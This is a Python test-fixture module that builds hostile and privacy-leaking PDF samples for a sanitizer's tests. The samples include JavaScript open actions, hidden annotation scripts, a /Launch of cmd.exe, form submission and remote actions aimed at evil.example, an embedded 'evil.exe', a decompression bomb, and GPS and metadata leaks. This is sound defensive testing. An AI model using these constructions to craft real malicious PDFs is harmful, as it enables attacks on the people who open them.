"""PDFs that mean harm or tell too much."""

import zlib
from base64 import a85encode
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from messaging.tests.factories import picture
from messaging.tests.hostile_kinds import DAMAGED, KIND, SECRET, TAKEN, Hostile, photo_with_gps


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: Any) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    target = BytesIO()
    document.save(target, **save)
    return target.getvalue()


def _open_action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        action = Dictionary(S=Name(kind), **more)
        document.Root.OpenAction = document.make_indirect(action)

    return change


def _hidden_script(document: pikepdf.Pdf) -> None:
    """Deep in an annotation of a page, in an object of its own."""
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SECRET.decode())))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))


def _names_script(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SECRET.decode())))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def _embedded_file(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = SECRET


def _additional_actions(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo))


def _form_of_xml(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp>" + SECRET), Fields=Array([]))


def _rich_media(document: pikepdf.Pdf) -> None:
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    document.pages[0].Annots = Array([media])


def _told_about(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = SECRET.decode()
    document.Root.Metadata = document.make_stream(SECRET, Type=Name.Metadata, Subtype=Name.XML)
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI=String("https://evil.example/tell-tale-canary")),
    )  # fmt: skip
    document.pages[0].Annots = Array([link])


def _shows(picture: bytes, packing: Any = Name.DCTDecode) -> Callable[[pikepdf.Pdf], None]:
    """A page with one picture, packed as said."""

    def change(document: pikepdf.Pdf) -> None:
        image = document.make_stream(
            b"", Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, BitsPerComponent=8,
            ColorSpace=Name.DeviceRGB,
        )  # fmt: skip
        image.write(picture, filter=packing)
        document.pages[0].Resources = Dictionary(XObject=Dictionary(P=image))
        document.pages[0].Contents = document.make_stream(b"q 64 0 0 48 0 0 cm /P Do Q")

    return change


def _packed_photo(*packings: str) -> Callable[[pikepdf.Pdf], None]:
    photo = photo_with_gps()
    for packing in reversed(packings):
        photo = PACK[packing](photo)
    return _shows(photo, [*map(Name, packings), Name.DCTDecode])


PACK: dict[str, Callable[[bytes], bytes]] = {
    "/FlateDecode": zlib.compress,
    "/ASCII85Decode": lambda data: a85encode(data) + b"~>",
    "/ASCIIHexDecode": lambda data: data.hex().encode() + b">",
}


def _photo_of_the_future() -> bytes:
    """JPEG 2000 with a comment and, behind the picture, a box of XMP."""
    target = BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 40)).save(target, "JPEG2000", comment=SECRET)
    box = b"uuid" + bytes(16) + SECRET
    return target.getvalue() + (len(box) + 4).to_bytes(4, "big") + box


def _remarks(document: pikepdf.Pdf) -> None:
    told = {"T": SECRET.decode(), "Subj": SECRET.decode(), "RC": SECRET.decode(), "NM": SECRET.decode()}
    place = Array([0, 0, 9, 9])
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=place, Contents=SECRET.decode(), **told)
    popup = Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=place, Contents=SECRET.decode(), **told)
    shown = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=place, Contents="Dear Doctor", DA="/F 9 Tf", **told)
    document.pages[0].Annots = Array([document.make_indirect(remark) for remark in (note, popup, shown)])


def _signed(document: pikepdf.Pdf) -> None:
    signature = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Name=SECRET.decode(), Location=SECRET.decode(),
        Reason=SECRET.decode(), ContactInfo=SECRET.decode(), Contents=String(SECRET), ByteRange=Array([0, 1, 2, 3]),
    )  # fmt: skip
    look = document.make_stream(b"(" + SECRET + b") Tj", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="Signature1", Rect=Array([0, 0, 9, 9]),
        V=document.make_indirect(signature), AP=Dictionary(N=look),
    )  # fmt: skip
    document.pages[0].Annots = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots, SigFlags=3)
    document.Root.DSS = Dictionary(Certs=Array([document.make_stream(SECRET)]))


def pdfs() -> list[Hostile]:
    plain_pdf = pdf()
    return [
        Hostile("cut.pdf", plain_pdf[:60], DAMAGED),
        Hostile("head.pdf", b"%PDF-1.7\n" + SECRET, DAMAGED),
        Hostile("late.pdf", SECRET + plain_pdf, KIND),
        Hostile("locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), DAMAGED),
        Hostile("owned.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="")), DAMAGED),
        Hostile("script.pdf", pdf(_open_action("/JavaScript", JS=String(SECRET.decode()))), DAMAGED),
        Hostile("names.pdf", pdf(_names_script), DAMAGED),
        Hostile("deep.pdf", pdf(_hidden_script), DAMAGED),
        Hostile("packed.pdf", pdf(_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), DAMAGED),
        Hostile("launch.pdf", pdf(_open_action("/Launch", F=String("cmd.exe"))), DAMAGED),
        Hostile("submit.pdf", pdf(_open_action("/SubmitForm", F=String("https://evil.example"))), DAMAGED),
        Hostile("remote.pdf", pdf(_open_action("/GoToR", F=String("\\\\evil.example\\x"))), DAMAGED),
        Hostile("embedded.pdf", pdf(_embedded_file), DAMAGED),
        Hostile("actions.pdf", pdf(_additional_actions), DAMAGED),
        Hostile("xfa.pdf", pdf(_form_of_xml), DAMAGED),
        Hostile("media.pdf", pdf(_rich_media), DAMAGED),
        Hostile("told.pdf", pdf(_told_about) + b"\n" + SECRET, TAKEN),
        Hostile("photo.pdf", pdf(_shows(photo_with_gps())), TAKEN),
        Hostile("second.pdf", pdf(_shows(picture("JPEG") + photo_with_gps())), TAKEN),
        Hostile("flate.pdf", pdf(_packed_photo("/FlateDecode")), TAKEN),
        Hostile("letters.pdf", pdf(_packed_photo("/ASCII85Decode", "/FlateDecode")), TAKEN),
        Hostile("digits.pdf", pdf(_packed_photo("/ASCIIHexDecode")), TAKEN),
        Hostile("odd.pdf", pdf(_shows(photo_with_gps(), [Name.LZWDecode, Name.DCTDecode])), DAMAGED),
        Hostile("bomb.pdf", pdf(_shows(zlib.compress(bytes(40_000_000)), [Name.FlateDecode, Name.DCTDecode])), DAMAGED),
        Hostile("future.pdf", pdf(_shows(_photo_of_the_future(), Name.JPXDecode)), TAKEN),
        Hostile("remarks.pdf", pdf(_remarks), TAKEN),
        Hostile("signed.pdf", pdf(_signed), TAKEN),
    ]  # fmt: skip
